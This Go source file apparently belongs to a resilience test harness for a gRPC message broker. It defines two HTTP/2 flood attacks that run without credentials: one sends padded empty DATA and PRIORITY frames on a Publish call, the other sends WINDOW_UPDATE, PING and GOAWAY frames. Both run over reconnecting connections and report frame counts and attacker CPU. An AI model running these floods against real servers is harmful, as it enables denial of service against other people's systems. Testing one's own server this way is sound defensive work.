package main

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"

	roomcastv1 "github.com/roomcast/roomcast/gen/roomcast/v1"
	"github.com/roomcast/roomcast/internal/rawh2"
)

// (n) Frames that carry nothing, without a credential: each connection
// opens one Publish call and sends padded DATA frames of no data on it,
// and PRIORITY frames between them, as fast as the server reads them.
// grpc-go spends about the same on such a frame as on a command, and
// neither begins a message, so no publish limit sees them. A connection
// the server closes is dialled again.
func frameFlood(ctx context.Context, s childSpec) (string, error) {
	const connections, batch = 5, 500
	var frames, dials, closed atomic.Int64
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() {
			for !ended(ctx) {
				h2, err := rawConn(ctx, s.Addr)
				dials.Add(1)
				if err != nil {
					continue
				}
				id, err := h2.Open(h2.Encode(rawh2.GRPCHeaders(s.Addr, roomcastv1.BrokerService_Publish_FullMethodName)), false)
				for err == nil && !ended(ctx) {
					err = h2.Frames(func(fr *http2.Framer) error {
						for range batch {
							if err := fr.WriteDataPadded(id, false, nil, padding); err != nil {
								return err
							}
							if err := fr.WritePriority(id+2, http2.PriorityParam{StreamDep: id, Weight: 15}); err != nil {
								return err
							}
						}
						return nil
					})
					if err == nil {
						err = h2.Flush()
					}
					if err == nil {
						frames.Add(2 * batch)
					}
				}
				if err != nil && !ended(ctx) {
					closed.Add(1)
				}
				h2.Close()
			}
		})
	}
	wg.Wait()
	return fmt.Sprintf("%s frames of nothing sent (padded DATA on a Publish call without a credential, and PRIORITY) on %d connections at a time; %s dials, %s connections ended before the attack's end",
		commas(int(frames.Load())), connections, commas(int(dials.Load())), commas(int(closed.Load()))) + attackerCPU(), nil
}

// padding is what each of (n)'s DATA frames carries: nothing but padding.
var padding = make([]byte, 8)

// (o) Control frames, without a credential: each connection sends
// WINDOW_UPDATE frames for the connection and PING frames, which a
// reader sends as it reads and every HTTP/2 server answers or applies,
// and GOAWAY frames, which grpc-go ignores, as fast as the server reads
// them. No call is made, so nothing but the frame scanner sees them. A connection the server closes (grpc-go's
// keepalive policy sends GOAWAY after a few PINGs on a connection it
// writes nothing else to) is dialled again.
func controlFlood(ctx context.Context, s childSpec) (string, error) {
	const connections, batch = 5, 500
	var frames, dials, closed atomic.Int64
	var wg sync.WaitGroup
	for range connections {
		wg.Go(func() {
			for !ended(ctx) {
				h2, err := rawConn(ctx, s.Addr)
				dials.Add(1)
				if err != nil {
					continue
				}
				var ping [8]byte
				for err == nil && !ended(ctx) {
					err = h2.Frames(func(fr *http2.Framer) error {
						for range batch {
							if err := fr.WriteWindowUpdate(0, 1); err != nil {
								return err
							}
							ping[0]++
							if err := fr.WritePing(false, ping); err != nil {
								return err
							}
							if err := fr.WriteGoAway(0, http2.ErrCodeNo, nil); err != nil {
								return err
							}
						}
						return nil
					})
					if err == nil {
						err = h2.Flush()
					}
					if err == nil {
						frames.Add(3 * batch)
					}
				}
				if err != nil && !ended(ctx) {
					closed.Add(1)
				}
				h2.Close()
			}
		})
	}
	wg.Wait()
	return fmt.Sprintf("%s control frames sent (WINDOW_UPDATE, PING and GOAWAY, no call) on %d connections at a time; %s dials, %s connections ended before the attack's end",
		commas(int(frames.Load())), connections, commas(int(dials.Load())), commas(int(closed.Load()))) + attackerCPU(), nil
}
